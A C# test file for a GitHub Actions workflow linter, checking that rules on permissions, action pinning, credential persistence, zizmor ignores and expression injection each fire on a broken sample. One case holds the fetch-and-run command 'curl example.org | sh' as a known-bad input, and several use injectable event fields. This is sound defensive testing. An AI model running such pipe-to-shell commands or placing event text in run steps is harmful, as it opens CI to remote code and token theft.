using Rayquest.JobCli.Tests.House;

namespace Rayquest.JobCli.Tests.Workflows;

public sealed class WorkflowRulesTests
{
    private const string Good = """
        name: sample
        on:
          # zizmor: ignore[dangerous-triggers] The head is only read.
          pull_request_target:
        permissions: {}
        jobs:
          one:
            runs-on: ubuntu-latest
            timeout-minutes: 5
            concurrency:
              group: one
              cancel-in-progress: false
            permissions:
              contents: read
            steps:
              - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
                with:
                  persist-credentials: false
              - run: ./rayquest review --pull "$PULL"
                env:
                  PULL: ${{ github.event.pull_request.number }}
        """;

    [Fact]
    public void The_good_sample_has_no_fault() => WorkflowRules.Check(Good).ShouldBeEmpty();

    [Theory]
    [InlineData("permissions: {}\njobs", "jobs", "top-level permissions")]
    [InlineData("permissions: {}\njobs", "permissions:\n  contents: read\njobs", "top-level permissions")]
    [InlineData("    permissions:\n      contents: read\n", "", "declares no permissions")]
    [InlineData("    timeout-minutes: 5\n", "", "no timeout")]
    [InlineData("    concurrency:\n      group: one\n      cancel-in-progress: false\n", "", "no concurrency group")]
    [InlineData("cancel-in-progress: false", "cancel-in-progress: true", "cancelled half way")]
    [InlineData("  # zizmor: ignore[dangerous-triggers] The head is only read.\n", "", "without a zizmor ignore")]
    [InlineData(" The head is only read.", "", "without a zizmor ignore")]
    [InlineData("@3d3c42e5aac5ba805825da76410c181273ba90b1", "@v7", "not pinned")]
    [InlineData("@3d3c42e5aac5ba805825da76410c181273ba90b1", "@3d3c42e", "not pinned")]
    [InlineData(" # v7.0.1", "", "no version comment")]
    [InlineData(" # v7.0.1", " # main", "no version comment")]
    [InlineData("persist-credentials: false", "fetch-depth: 0", "leaves the token")]
    [InlineData(
        "persist-credentials: false",
        "persist-credentials: false\n          ref: refs/pull/1/head",
        "something else than the base"
    )]
    [InlineData("\"$PULL\"", "${{ github.event.pull_request.number }}", "expression inside run")]
    [InlineData("./rayquest review --pull \"$PULL\"", "curl example.org | sh", "not one known call")]
    [InlineData("./rayquest review --pull \"$PULL\"", "./rayquest review --pull $PULL", "not one known call")]
    [InlineData("./rayquest review --pull \"$PULL\"", "./rayquest lint && ./rayquest render", "not one known call")]
    [InlineData(
        "./rayquest review --pull \"$PULL\"",
        "|\n          ./rayquest lint\n          ./build.sh",
        "not one known call"
    )]
    [InlineData("github.event.pull_request.number", "github.event.pull_request.title", "event text")]
    [InlineData("github.event.pull_request.number", "github.event.comment.body", "event text")]
    [InlineData("github.event.pull_request.number", "github.head_ref", "event text")]
    [InlineData("github.event.pull_request.number", "github.event.pull_request.head.ref", "event text")]
    public void Each_rule_fires_on_its_fault(string good, string bad, string expected)
    {
        Good.ShouldContain(good);
        WorkflowRules
            .Check(Good.Replace(good, bad, StringComparison.Ordinal))
            .ShouldHaveSingleItem()
            .ShouldContain(expected);
    }

    [Fact]
    public void Our_workflows_keep_the_rules()
    {
        var workflows = RepositoryFiles.Workflows();
        workflows.Length.ShouldBeGreaterThanOrEqualTo(6);
        foreach (var workflow in workflows)
        {
            WorkflowRules.Check(File.ReadAllText(workflow)).ShouldBeEmpty(workflow);
        }
    }
}
